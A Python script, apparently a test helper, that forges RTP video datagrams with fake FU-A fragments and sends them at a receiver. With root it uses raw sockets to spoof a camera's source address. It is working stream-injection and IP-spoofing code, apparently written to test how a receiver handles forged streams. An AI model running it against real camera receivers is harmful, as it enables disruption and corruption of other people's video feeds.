#!/usr/bin/python3
"""Sends forged RTP at a receiver, as an attacker on the camera's network would.

Each datagram is an RTP version-2 header (payload type 96, sequence numbers counting up from a random
start, as a real stream's do, and an SSRC of its own) and random payload bytes.

    rtp_spoofer.py --to 10.213.5.1:40000 --count 1000
        plain UDP from this host's own address and an ephemeral port
    rtp_spoofer.py --to 10.213.5.1:40000 --count 1000 --source 10.213.5.2:5000
        forged source address and port (a raw socket with IP_HDRINCL: needs root), e.g. the camera's

Prints "SENT <n>" with the number of datagrams the kernel accepted.
"""
import argparse
import random
import socket
import struct


def rtp(seq, timestamp, ssrc, size):
    header = struct.pack("!BBHII", 0x80, 96, seq & 0xffff, timestamp & 0xffffffff, ssrc)
    # An FU-A fragment of a non-IDR slice: what a depacketizer would try to assemble.
    return header + bytes([0x7c, 0x01]) + random.randbytes(size)


def udp_over_ip(source, destination, payload):
    (src_host, src_port), (dst_host, dst_port) = source, destination
    udp = struct.pack("!HHHH", src_port, dst_port, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    # Version/IHL, TOS, total length (kernel fills), id (kernel fills), fragment, TTL, protocol, checksum (kernel).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src_host), socket.inet_aton(dst_host))
    return ip + udp


def address(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--to", type=address, action="append", required=True, help="HOST:PORT (repeatable)")
    parser.add_argument("--count", type=int, default=1000, help="datagrams per destination")
    parser.add_argument("--source", type=address, action="append", default=[],
                        help="forged HOST:PORT to send from (repeatable; raw socket)")
    parser.add_argument("--size", type=int, default=200, help="payload bytes")
    arguments = parser.parse_args()

    ssrc = random.getrandbits(32)
    seq = random.getrandbits(16)
    timestamp = random.getrandbits(32)
    sent = 0
    if arguments.source:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for source in arguments.source:
            for destination in arguments.to:
                for i in range(arguments.count):
                    datagram = udp_over_ip(source, destination, rtp(seq + i, timestamp + i * 3600, ssrc,
                                                                    arguments.size))
                    sent += sock.sendto(datagram, (destination[0], 0)) > 0
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for destination in arguments.to:
            for i in range(arguments.count):
                sent += sock.sendto(rtp(seq + i, timestamp + i * 3600, ssrc, arguments.size), destination) > 0
    print(f"SENT {sent}", flush=True)


if __name__ == "__main__":
    main()
